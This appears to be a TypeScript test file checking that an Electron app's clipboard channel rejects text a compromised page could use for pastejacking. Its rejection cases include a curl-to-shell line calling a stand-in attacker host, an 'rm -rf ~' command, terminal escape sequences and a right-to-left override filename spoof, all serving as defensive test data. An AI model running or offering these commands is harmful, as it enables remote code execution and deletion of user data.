/**
 * A compromised page writes the clipboard through the one channel it has (`app:copyText`: the
 * page's own clipboard API is denied with every permission). What it may put there is one line
 * of text with nothing hidden, as a task id, an address or a seed is: never a line break (a
 * command pasted into a terminal runs at the newline), a control character (ESC starts terminal
 * sequences), a line separator, or bidirectional formatting (text that reads otherwise than it
 * runs). "Copy as command", the one copy of several lines, is main's own: it builds the lines
 * from the task it names (copy-command.test.ts), the page never names the text. Through the
 * real main-process bridge (ipc/ipc-main-bridge.ts), the contract's schema and the real handlers
 * (ipc/app-handlers.ts); only Electron's ipcMain and the clipboard are stand-ins.
 */
import type { IpcMainInvokeEvent } from 'electron';
import { afterAll, describe, expect, it } from 'vitest';
import { appHandlers } from '../../../electron/ipc/app-handlers';
import { registerIpcHandlers, type IpcHandlers } from '../../../electron/ipc/ipc-main-bridge';
import { silentLogger } from '../../../electron/ports/logger';

const copied: string[] = [];
const listeners = new Map<string, (event: IpcMainInvokeEvent, raw: unknown) => unknown>();
const handlers = appHandlers({
  shell: { openLogsFolder: () => Promise.resolve({ ok: true, value: undefined }) },
  copyText: (text) => void copied.push(text),
  info: () => {
    throw new Error('not asked');
  },
});
const unregister = registerIpcHandlers(
  {
    handle: (channel, listener) => void listeners.set(channel, listener as never),
    removeHandler: (channel) => void listeners.delete(channel),
  },
  handlers as unknown as IpcHandlers,
  () => true,
  silentLogger,
);
afterAll(() => unregister());

function copy(text: unknown): Promise<unknown> {
  const listener = listeners.get('app:copyText');
  if (!listener) throw new Error('app:copyText is not registered');
  return Promise.resolve(listener({ sender: {}, senderFrame: {} } as IpcMainInvokeEvent, { text }));
}

describe('what a page may put on the clipboard', () => {
  it.each([
    ['a task id', 'task_01HZX3K9V7Q2'],
    ['an address', 'https://cdn.example.com/a/b.png?sig=abc%20def'],
    ['a seed', '4294967295'],
    ['text with spaces and accents', 'ein Bild für dich'],
    ['nothing', ''],
  ])('copies %s', async (_what, text) => {
    copied.length = 0;
    expect(await copy(text)).toMatchObject({ ok: true });
    expect(copied).toEqual([text]);
  });

  it.each([
    ['a line break', 'task_1\ncurl https://evil.example/x | sh\n'],
    ['a carriage return', 'task_1\rrm -rf ~'],
    ['a tab', 'a\tb'],
    ['an escape sequence', 'task_1\u001b[2K\u001b[1Gecho hi'],
    ['NUL', 'task\u0000id'],
    ['a C1 control (one-character CSI)', 'a\u009b2Jb'],
    ['DEL', 'a\u007fb'],
    ['a line separator', 'a\u2028b'],
    ['a paragraph separator', 'a\u2029b'],
    ['a right-to-left override', 'photo\u202egnp.exe'],
    ['a left-to-right isolate', 'a\u2066b\u2069'],
    ['an Arabic letter mark', 'a\u061cb'],
  ])('refuses %s, and copies nothing', async (_what, text) => {
    copied.length = 0;
    expect(await copy(text)).toMatchObject({ ok: false, error: { code: 'bad_input' } });
    expect(copied).toEqual([]);
  });
});
